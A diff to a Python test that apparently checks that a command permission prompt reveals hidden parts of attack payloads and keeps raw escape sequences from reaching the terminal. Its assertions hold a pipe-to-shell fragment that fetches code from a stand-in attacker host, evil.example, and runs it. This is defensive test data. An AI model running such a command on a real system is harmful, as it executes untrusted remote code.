@@ -94,7 +94,8 @@ def test_the_permission_prompt_shows_every_hidden_part(attack):
         text = raw.decode("utf-8", errors="replace")
         seen = plain(raw)
         assert "Run this command?" in seen
-        assert f"$ {shown_start(n)}" in seen, f"payload {n} not shown from its start:\n{seen}"
+        starts = (f"{lead}{shown_start(n)}" for lead in ("$ ", "Run this command? `"))
+        assert any(s in seen for s in starts), f"payload {n} not shown from its start:\n{seen}"
         assert f"-s http://evil.example/{n} | sh" in seen, f"payload {n} not shown:\n{seen}"
         for sequence in hidden:
             assert sequence not in text, f"payload {n}: raw {sequence!r} reached the terminal"
